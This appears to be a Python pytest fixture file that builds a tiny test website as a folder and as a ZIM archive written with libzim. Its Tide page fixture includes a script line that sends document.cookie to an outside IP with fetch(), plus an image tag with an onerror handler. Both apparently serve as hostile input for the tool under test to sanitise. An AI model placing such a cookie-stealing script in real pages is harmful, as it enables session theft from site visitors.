"""A small web in both of its shapes: a folder, and a ZIM file made by libzim itself."""

from pathlib import Path
from typing import Any

import pytest
from libzim.writer import Creator, Hint, Item, StringProvider

TIDE = """<!doctype html><html><head><title>Tide</title>
<script>fetch("http://203.0.113.1/" + document.cookie)</script><style>p {color: red}</style></head>
<body><h1>Tide</h1><p>The <b>moon</b> pulls the sea; see <a href="Moon.html">the Moon</a> and
<a href="https://example.org/x">elsewhere</a>.</p><img src="http://203.0.113.1/x.png" onerror="x">
<ul><li>spring tide<li>neap tide</ul><table><tr><th>hour<th>height<tr><td>1<td>2.5</table>
<pre>a  b
 c</pre><svg><text>drawn</text></svg></body></html>"""
MOON = "<title>Moon</title><p>It goes around the earth.</p>"
PAGES = {"wiki/Tide.html": TIDE, "wiki/Moon.html": MOON, "wiki/Sea water.html": "<p>Salt.</p>"}


class Written(Item):  # type: ignore[misc]
    """An entry of a ZIM file."""

    def __init__(self, path: str, content: str | bytes, kind: str) -> None:
        super().__init__()
        self.path, self.content, self.kind = path, content, kind

    def get_path(self) -> str:
        """Return where it lies."""
        return self.path

    def get_title(self) -> str:
        """Return its name."""
        return self.path.rpartition("/")[2].removesuffix(".html")

    def get_mimetype(self) -> str:
        """Return its media type."""
        return self.kind

    def get_contentprovider(self) -> Any:
        """Return what it holds."""
        return StringProvider(self.content)

    def get_hints(self) -> dict[Any, int]:
        """Let it be found."""
        return {Hint.FRONT_ARTICLE: self.kind == "text/html"}


def write_zim(
    path: Path, *, indexed: bool = True, more: dict[str, tuple[str | bytes, str]] | None = None
) -> Path:
    """Write the small web, and more, as a ZIM file."""
    with Creator(path).config_indexing(indexed, "eng") as creator:
        for name, content in PAGES.items():
            creator.add_item(Written(name, content, "text/html"))
        for name, (content, kind) in (more or {}).items():
            creator.add_item(Written(name, content, kind))
        creator.add_item(Written("moon.bin", b"\x00\x01\xff", "application/octet-stream"))
        creator.add_redirection("wiki/Ebb", "Ebb", "wiki/Tide.html", {Hint.FRONT_ARTICLE: 0})
        creator.set_mainpath("wiki/Tide.html")
    return path


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """The small web as files."""
    root = tmp_path / "web"
    for name, content in PAGES.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(content)
    (root / "moon.bin").write_bytes(b"\x00\x01\xff")
    return root


@pytest.fixture(scope="session")
def zim(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The small web as a ZIM file with an index."""
    return write_zim(tmp_path_factory.mktemp("zim") / "small.zim")


@pytest.fixture(params=["folder", "zim"])
def web(request: pytest.FixtureRequest) -> Path:
    """The small web, in each of its shapes."""
    path: Path = request.getfixturevalue(request.param)
    return path
